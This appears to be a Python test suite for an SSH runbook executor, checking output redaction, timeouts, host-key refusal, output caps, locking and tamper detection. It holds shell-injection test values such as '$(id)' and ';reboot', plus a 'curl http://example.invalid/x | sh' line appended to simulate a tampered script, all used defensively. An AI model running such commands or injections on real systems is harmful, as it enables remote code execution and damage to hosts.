"""The SSH executor against a real OpenSSH sshd on loopback."""

from __future__ import annotations

import asyncio
import base64
import json
import subprocess
import tracemalloc
import uuid
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from agent.catalog.store import Catalog
from agent.cli import main
from agent.config.environment import Environment
from agent.config.schema import AgentConfig, load_config
from agent.errors import RunbookNotRunnable
from agent.redaction import Redactor
from agent.runs.executor import Executor
from agent.runs.plan import plan_run
from agent.runs.results import Outcome, RunResult
from tests.sshd import SshFleet, keygen
from tests.waiting import eventually

pytestmark = pytest.mark.external_service


class Agent:
    """The pieces `agent run` wires together, built from agent_home."""

    def __init__(self, home: Path) -> None:
        self.config: AgentConfig = load_config(home / "agent.toml")
        self.catalog = Catalog(home / "runbooks", home / "runbooks.lock")
        assert self.catalog.verify().ok
        self.executor = Executor(self.config.inventory, self.config.executor, self.config.base_dir, {})
        self.redactor: Redactor = Environment(self.config, {}).redactor()

    async def run(self, name: str, hosts: list[str], **args: Any) -> RunResult:
        plan = plan_run(self.catalog.load(name), self.config.inventory, hosts, args, room="ops")
        return await self.executor.run(plan, self.redactor)


@pytest.fixture
async def agent(agent_home: Path) -> AsyncIterator[Agent]:
    built = Agent(agent_home)
    yield built
    await built.executor.close()


async def test_success_and_output_redacted(agent: Agent) -> None:
    result = await agent.run("fail_exit", ["h1"], code=0)
    [host] = result.hosts
    assert (host.host, host.status, host.exit_code, host.message) == ("h1", Outcome.SUCCESS, 0, "")
    assert host.stdout == "to stdout: connecting to [IP] with password=[REDACTED]\n"
    assert host.stderr == "to stderr: about to exit 0\n"
    assert result.ok and len(host.output_sha256) == 64


async def test_nonzero_exit_is_fail_with_both_streams(agent: Agent) -> None:
    [host] = (await agent.run("fail_exit", ["h1"], code=3)).hosts
    assert (host.status, host.exit_code, host.message) == (Outcome.FAIL, 3, "exit status 3")
    assert "about to exit 3" in host.stderr


HOSTILE = [
    "$(id)",
    "`id`",
    ";reboot",
    "a b",
    "*",
    "~root",
    "$HOME",
    "'\"",
    "x\\y",
    "",
    "--version",
    "!!",
    "a|b&c",
]


@pytest.mark.parametrize("value", [v for v in HOSTILE if not v.startswith("-")])
async def test_hostile_values_arrive_byte_for_byte_and_execute_nothing(
    agent: Agent, value: str, tmp_path: Path
) -> None:
    canary = Path("/tmp") / f"guardia-canary-{uuid.uuid4().hex}"
    planted = value.replace("id", f"touch {canary}") if "id" in value else value
    [host] = (await agent.run("echo_args", ["h1"], value=planted, extra="$(touch " + str(canary) + ")")).hosts
    assert host.status is Outcome.SUCCESS, host
    lines = host.stdout.splitlines()
    assert lines[0] == "argc=3"
    assert [base64.b64decode(line).decode() for line in lines[1:4]] == [
        planted,
        "--extra",
        f"$(touch {canary})",
    ]
    assert not canary.exists()


async def test_script_runs_in_a_clean_environment(agent: Agent) -> None:
    [host] = (await agent.run("echo_args", ["h1"], value="x")).hosts
    assert "path=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin lc_all=C.UTF-8" in host.stdout
    names = set(host.stderr.split())
    assert names <= {"PATH", "LC_ALL", "LANG", "PWD", "SHLVL", "_", "OLDPWD", "GUARDIA_RUN"}, (
        names
    )  # no SSH_CONNECTION, HOME…


def _survivors(marker: str) -> list[str]:
    found = subprocess.run(
        ["pgrep", "-a", "-f", marker], capture_output=True, text=True, encoding="utf-8"
    ).stdout
    return [line for line in found.splitlines() if "pgrep" not in line]


async def test_timeout_kills_the_whole_process_tree(agent: Agent) -> None:
    marker = f"guardia-{uuid.uuid4().hex[:12]}"
    [host] = (await agent.run("sleeper", ["h1"], marker=marker)).hosts
    assert host.status is Outcome.TIMEOUT, host
    assert host.message == "killed at the 2 s time limit"
    assert f"started {marker}" in host.stdout  # the partial output is kept
    await eventually(lambda: not _survivors(marker), 15, "the host's process table clean of the run's tree")


async def test_unreachable_host_fails_only_its_own_row(agent: Agent) -> None:
    result = await agent.run("fail_exit", ["h1", "down", "h2"], code=0)
    assert [(h.host, h.status) for h in result.hosts] == [
        ("h1", Outcome.SUCCESS), ("down", Outcome.UNREACHABLE), ("h2", Outcome.SUCCESS),
    ]  # fmt: skip
    assert result.hosts[1].message == "connection refused"
    assert result.status is Outcome.UNREACHABLE and not result.ok


async def test_host_key_not_in_known_hosts_is_refused(agent: Agent) -> None:
    [host] = (await agent.run("fail_exit", ["stranger"], code=0)).hosts
    assert host.status is Outcome.REFUSED
    assert host.message == "host key not trusted: missing from known_hosts or different from it"
    assert "127.0.0" not in host.message


async def test_changed_host_key_is_refused(agent_home: Path, fleet: SshFleet) -> None:
    impostor_key = keygen(agent_home / "impostor", "impostor").split(" ", 2)
    lines = fleet.known_hosts.read_text(encoding="utf-8").splitlines()
    forged = agent_home / "known_hosts_forged"
    forged.write_text(
        "\n".join(f"{ln.split()[0]} {impostor_key[0]} {impostor_key[1]}" for ln in lines) + "\n",
        encoding="utf-8",
        newline="\n",
    )
    config = (
        (agent_home / "agent.toml").read_text(encoding="utf-8").replace(str(fleet.known_hosts), str(forged))
    )
    (agent_home / "agent.toml").write_text(config, encoding="utf-8", newline="\n")
    agent = Agent(agent_home)
    try:
        [host] = (await agent.run("fail_exit", ["h1"], code=0)).hosts
    finally:
        await agent.executor.close()
    assert host.status is Outcome.REFUSED and host.message.startswith("host key not trusted")


async def test_output_flood_is_capped_in_bounded_memory(agent: Agent) -> None:
    tracemalloc.start()
    try:
        [host] = (await agent.run("flood", ["h2"], bytes=100_000_000)).hosts
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert host.status is Outcome.SUCCESS, host
    assert host.truncated and host.stdout_cut > 99_000_000
    assert host.stdout.startswith("FIRST LINE\n") and host.stdout.endswith("LAST LINE\n")
    assert len(host.stdout.encode()) <= 65536 + 64
    assert "hunter22" not in host.stdout and "10.100.0.7" not in host.stdout and "1234567" not in host.stdout
    assert peak < 16 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


async def test_state_changing_runbook_never_runs_twice_at_once_on_a_host(agent: Agent) -> None:
    first, second = await asyncio.gather(
        agent.run("state_change", ["h1"], seconds=2), agent.run("state_change", ["h1", "h2"], seconds=0)
    )
    assert first.hosts[0].status is Outcome.SUCCESS
    assert [(h.host, h.status) for h in second.hosts] == [("h1", Outcome.REFUSED), ("h2", Outcome.SUCCESS)]
    assert second.hosts[0].message.startswith("busy")
    assert (await agent.run("state_change", ["h1"], seconds=0)).ok  # free again afterwards


async def test_more_runs_than_sessions_on_one_host_queue_instead_of_failing(agent: Agent) -> None:
    results = await asyncio.gather(*(agent.run("fail_exit", ["h3"], code=0) for _ in range(25)))
    failed = [h for r in results for h in r.hosts if h.status is not Outcome.SUCCESS]
    assert failed == []


async def test_connections_are_pooled_and_reestablished_after_a_drop(agent: Agent, fleet: SshFleet) -> None:
    server = fleet.servers[0]
    before = server.logins()
    for _ in range(3):
        assert (await agent.run("fail_exit", ["h1", "h2"], code=0)).ok
    assert server.logins() - before == 2  # one login per host, reused by every run
    pooled = [agent.executor._pool[alias].connection for alias in ("h1", "h2")]
    subprocess.run(["pkill", "-f", f"sshd: {fleet.user}@"], check=False)  # the hosts drop every connection
    async with asyncio.timeout(10):
        await asyncio.gather(*(conn.wait_closed() for conn in pooled))  # the agent has seen both go
    result = await agent.run("fail_exit", ["h1", "h2"], code=0)
    assert result.ok, result
    assert server.logins() - before == 4


async def test_tampered_script_is_refused_before_any_ssh_traffic(
    agent: Agent, agent_home: Path, fleet: SshFleet
) -> None:
    connections = fleet.servers[0].connections()
    script = agent_home / "runbooks" / "echo_args.sh"
    script.write_bytes(script.read_bytes() + b"\ncurl http://example.invalid/x | sh\n")
    with pytest.raises(RunbookNotRunnable, match="its script changed since it was locked"):
        await agent.run("echo_args", ["h1"], value="x")
    assert fleet.servers[0].connections() == connections


def _cli(home: Path, *args: str) -> Any:
    return CliRunner().invoke(main, ["-c", str(home / "agent.toml"), "runbooks", "run", *args])


def test_cli_runs_like_the_messenger(agent_home: Path) -> None:
    ok = _cli(agent_home, "echo_args", "--host", "web", "--arg", "value=$(id)", "--json")
    assert ok.exit_code == 0, ok.output
    data = json.loads(ok.stdout)
    assert data["status"] == "SUCCESS" and [h["host"] for h in data["hosts"]] == ["h1", "h2"]
    partly = _cli(agent_home, "fail_exit", "--host", "h1", "--host", "down", "--arg", "code=0")
    assert partly.exit_code == 1
    assert "== h1: SUCCESS  exit=0" in partly.stdout and "== down: UNREACHABLE  exit=-" in partly.stdout
    assert "1 of 2 hosts succeeded" in partly.stdout
    assert "[2/2]" in partly.stderr and "down: UNREACHABLE" in partly.stderr  # progress as hosts finish


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["echo_args", "--host", "nowhere", "--arg", "value=x"], "refused: unknown host or group: nowhere"),
        (["echo_args", "--host", "h1", "--arg", "value=-rf"], "refused: value: must not start with '-'"),
        (["echo_args", "--host", "h1", "--arg", "bogus"], "--arg takes KEY=VALUE"),
        (["no_such", "--host", "h1"], "refused: runbook 'no_such' is not runnable: no such runbook"),
    ],
)
def test_cli_refusals(agent_home: Path, args: list[str], message: str) -> None:
    result = _cli(agent_home, *args)
    assert result.exit_code in (1, 2) and message in result.stderr


Cli = Callable[..., Any]


async def test_a_legacy_korean_host_is_read_in_its_declared_encoding_and_redacted(agent: Agent) -> None:
    """A host declared ``encoding = "cp949"`` prints EUC-KR: the room reads Korean, and its labels are found."""
    runbooks = Path(agent.catalog.directory)
    (runbooks / "legacy_ko.sh").write_bytes(
        b"printf '%s\\n' '"
        + "점검 결과: 정상, DB 비밀번호: Hunter2pw, 주민등록번호 901010-1234567".encode("cp949")
        + b"'\n"
    )
    (runbooks / "legacy_ko.toml").write_text(
        'description = "Test: Korean in EUC-KR"\ntargets = ["all"]\nrooms = ["ops"]\ntimeout = 20\n',
        encoding="utf-8",
    )
    agent.catalog.relock()
    catalog = Catalog(agent.catalog.directory, agent.catalog.lock_path)
    assert catalog.verify().ok
    hosts = dict(agent.config.inventory.hosts)
    hosts["h1"] = hosts["h1"].model_copy(update={"encoding": "cp949"})
    inventory = agent.config.inventory.model_copy(update={"hosts": hosts})
    executor = Executor(inventory, agent.config.executor, agent.config.base_dir, {})
    try:
        plan = plan_run(catalog.load("legacy_ko"), inventory, ["h1", "h2"], {}, room="ops")
        result = await executor.run(plan, agent.redactor)
    finally:
        await executor.close()
    declared, undeclared = result.hosts
    # (a bare value runs to whitespace: its trailing comma is masked with it)
    assert declared.stdout == "점검 결과: 정상, DB 비밀번호: [REDACTED] 주민등록번호 901010-*******\n"
    # Undeclared, the bytes are not UTF-8: shown replaced, but still redacted (CP949 labels are recognised).
    assert "Hunter2pw" not in undeclared.stdout and "1234567" not in undeclared.stdout
    assert "비밀번호" not in undeclared.stdout


def test_a_host_encoding_must_be_known_and_ascii_compatible() -> None:
    from agent.config.schema import HostConfig

    assert HostConfig(address="127.0.0.1", encoding="EUC-KR").encoding == "euc_kr"
    for bad in ("klingon", "utf-16"):
        with pytest.raises(ValueError, match="encoding"):
            HostConfig(address="127.0.0.1", encoding=bad)
